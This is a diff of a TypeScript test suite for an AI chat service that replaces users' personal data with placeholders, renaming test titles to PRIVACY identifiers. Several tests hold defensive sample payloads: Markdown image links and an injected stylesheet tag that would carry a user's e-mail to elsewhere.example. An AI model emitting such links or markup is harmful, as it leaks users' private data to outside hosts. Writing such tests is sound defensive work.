@@ -49,7 +49,7 @@ function holding(dir: string, value: string): string[] {
 
 const seen = () => JSON.stringify(it.asked().map(({ messages }) => messages));
 
-test('decisions §9: e-mail, phone, card and IBAN reach the model as numbered placeholders, the same value with the same number', async () => {
+test('PRIVACY-1, PRIVACY-7: e-mail, phone, card and IBAN reach the model as numbered placeholders, the same value with the same number', async () => {
   it.script([{ text: 'Noted.' }], [{ text: 'Again.' }]);
   const first = await it.say(`I am ${EMAIL} (${PHONE}), card ${CARD}, account ${IBAN}, also ${OTHER}. Again: ${EMAIL}`);
   assert.match(seen(), /I am ⟦email_1⟧ \(⟦phone_1⟧\), card ⟦card_1⟧, account ⟦iban_1⟧, also ⟦email_2⟧\. Again: ⟦email_1⟧/);
@@ -58,7 +58,7 @@ test('decisions §9: e-mail, phone, card and IBAN reach the model as numbered pl
   for (const value of [EMAIL, OTHER, IBAN, CARD, PHONE]) assert.ok(!seen().includes(value), value);
 });
 
-test('decisions §9: a placeholder that the model says in pieces is put back for its device, in the stream and in history', async () => {
+test('PRIVACY-9: a placeholder that the model says in pieces is put back for its device, in the stream and in history', async () => {
   const pieces: Play[] = ['We wrote to ', '⟦', 'ema', 'il_', '1', '⟧', '. Not ⟦email_9⟧ and not ⟦', 'odd', ' text⟧.'].map((text) => ({
     text,
   }));
@@ -73,7 +73,7 @@ test('decisions §9: a placeholder that the model says in pieces is put back for
   assert.equal(told?.blocks[0]?.body.md, words);
 });
 
-test('decisions §9: a value is not put into a web address that the model writes, however it is split: a picture would send it away', async () => {
+test('PRIVACY-11: a value is not put into a web address that the model writes, however it is split: a picture would send it away', async () => {
   const pieces = ['![a](https://else', 'where.example/?q=', '⟦ema', 'il_1⟧) but (⟦email_1⟧) and mailto:⟦email_1⟧'].map((text) => ({
     text,
   }));
@@ -88,7 +88,7 @@ test('decisions §9: a value is not put into a web address that the model writes
   assert.deepEqual(shown?.body.image, { url: 'https://elsewhere.example/⟦email⟧.png', alt: `For ${EMAIL}` }, answer.text);
 });
 
-test('decisions §9: however Markdown spells an address, no reader of the turn gets a value in one: stream, replay and history', async () => {
+test('PRIVACY-11: however Markdown spells an address, no reader of the turn gets a value in one: stream, replay and history', async () => {
   const spellings = [
     '![](//elsewhere.example/?X) X',
     '![](https:/elsewhere.example/?X) X',
@@ -123,7 +123,7 @@ test('decisions §9: however Markdown spells an address, no reader of the turn g
   }
 });
 
-test('decisions §9: a form cannot make an address of what is filled in beside its names', async () => {
+test('PRIVACY-11: a form cannot make an address of what is filled in beside its names', async () => {
   const fields = [
     { name: 'a\n\n<link rel=stylesheet href="//elsewhere.example/?', label: 'A', type: 'text' },
     { name: 'mail', label: 'B', type: 'email' },
@@ -138,7 +138,7 @@ test('decisions §9: a form cannot make an address of what is filled in beside i
   assert.match(String(said), /mail: ⟦email⟧/);
 });
 
-test('decisions §9: a turn that is told again, live or from its rows, is told with the same words', async () => {
+test('PRIVACY-9: a turn that is told again, live or from its rows, is told with the same words', async () => {
   it.script([{ text: 'To ⟦email_1⟧.' }]);
   const turn = { turn_id: randomUUID() };
   const first = await it.say(`I am ${EMAIL}`, turn);
@@ -147,7 +147,7 @@ test('decisions §9: a turn that is told again, live or from its rows, is told w
   assert.ok(again.text.includes(`To ${EMAIL}.`));
 });
 
-test('decisions §9: text of the person that looks like a placeholder stays what it is', async () => {
+test('PRIVACY-10: text of the person that looks like a placeholder stays what it is', async () => {
   it.script([{ text: 'You said ⟦text_1⟧, and your address is ⟦email_1⟧.' }]);
   const said = `My address is ${EMAIL}; what does ⟦email_1⟧ mean? And ⟦card_7⟧?`;
   const answer = await it.say(said);
@@ -156,7 +156,7 @@ test('decisions §9: text of the person that looks like a placeholder stays what
   assert.equal((await it.stored(thread(answer)))[0]?.blocks[0]?.body.md, said);
 });
 
-test('decisions §9: params are restored before an action runs, on the client and on the server, and results are concealed', async () => {
+test('PRIVACY-12: params are restored before an action runs, on the client and on the server, and results are concealed', async () => {
   const manifest = {
     version: '1',
     actions: [
@@ -207,7 +207,7 @@ test('decisions §9: params are restored before an action runs, on the client an
   assert.match(it.toldOf('call_open'), /"owner":"⟦email_3⟧"/);
 });
 
-test('decisions §9: context, forms and selections are concealed, too', async () => {
+test('PRIVACY-4: context, forms and selections are concealed, too', async () => {
   const fields = [{ name: 'mail', label: 'E-mail', type: 'email', required: true }];
   it.script([{ call: 'form', args: { title: 'Contact', fields, submit_label: 'Send' } }], [{ text: 'Thanks, ⟦email_1⟧.' }]);
   const first = await it.say('I want to leave my address', { context: { app_state: { account: OTHER } } });
@@ -219,7 +219,7 @@ test('decisions §9: context, forms and selections are concealed, too', async ()
   assert.ok(!seen().includes(EMAIL));
 });
 
-test('decisions §9: names of fields and whole numbers are concealed in data, whoever sends it', async () => {
+test('PRIVACY-4: names of fields and whole numbers are concealed in data, whoever sends it', async () => {
   const key = 'key.of.a.map@example.com';
   const card = 5_555_555_555_554_444;
   backend.answer((_, response) => sendJson(response, { [key]: { card, total: 1_042 } }));
@@ -231,7 +231,7 @@ test('decisions §9: names of fields and whole numbers are concealed in data, wh
   assert.deepEqual(holding(it.service.dataDir, key).concat(holding(it.service.dataDir, String(card))), [], 'files hold neither');
 });
 
-test('decisions §9: the name of a file that is attached is concealed like its text, and told to its device', async () => {
+test('PRIVACY-4: the name of a file that is attached is concealed like its text, and told to its device', async () => {
   const name = `cv ${OTHER} +44 20 7946 0958.txt`;
   const { id } = await upload({ baseUrl: it.service.baseUrl, key: it.app.liveKey }, 'Hello', name);
   it.script([{ text: 'Read.' }], [{ text: 'Again.' }]);
@@ -242,7 +242,7 @@ test('decisions §9: the name of a file that is attached is concealed like its t
   assert.equal(messages[0]?.attachments?.[0]?.name, name);
 });
 
-test('decisions §9: a retry shows the model an attachment with the placeholders it had, not as somebody’s own words', async () => {
+test('PRIVACY-13: a retry shows the model an attachment with the placeholders it had, not as somebody’s own words', async () => {
   const { id } = await upload({ baseUrl: it.service.baseUrl, key: it.app.liveKey }, `Write to ${EMAIL}`, 'letter.txt');
   const turn = { turn_id: randomUUID(), attachments: [{ upload_id: id }] };
   it.script([{ status: 500 }], [{ text: 'To ⟦email_1⟧.' }]);
@@ -252,7 +252,7 @@ test('decisions §9: a retry shows the model an attachment with the placeholders
   assert.equal(spoken(again.events), `To ${EMAIL}.`);
 });
 
-test('decisions §9: a form is checked by what the person sent, and stored without it, numbers too', async () => {
+test('PRIVACY-13: a form is checked by what the person sent, and stored without it, numbers too', async () => {
   const fields = [
     { name: 'card', label: 'Card', type: 'number', required: true },
     { name: 'nick', label: 'Nickname', type: 'text', max: 12 },
@@ -268,7 +268,7 @@ test('decisions §9: a form is checked by what the person sent, and stored witho
   assert.match(JSON.stringify(it.lastRequest().messages.at(-1)), /card: ⟦card_1⟧/);
 });
 
-test('decisions §9: an option is chosen by the id that was shown, also when the id looks like personal data', async () => {
+test('PRIVACY-13: an option is chosen by the id that was shown, also when the id looks like personal data', async () => {
   // Of the model's own: it is stored as it wrote it.
   const desk = '+44 20 7946 0123';
   const options = [
@@ -286,7 +286,7 @@ test('decisions §9: an option is chosen by the id that was shown, also when the
   }
 });
 
-test('decisions §9: everyone else sees placeholders, and neither files nor logs hold the values', async () => {
+test('PRIVACY-8, PRIVACY-9: everyone else sees placeholders, and neither files nor logs hold the values', async () => {
   it.script([{ text: 'Hello ⟦email_1⟧.' }]);
   const answer = await it.say(`I am ${EMAIL}`);
   const shown = await operator('GET', `/conversations/${thread(answer)}?app=${it.app.appId}`);
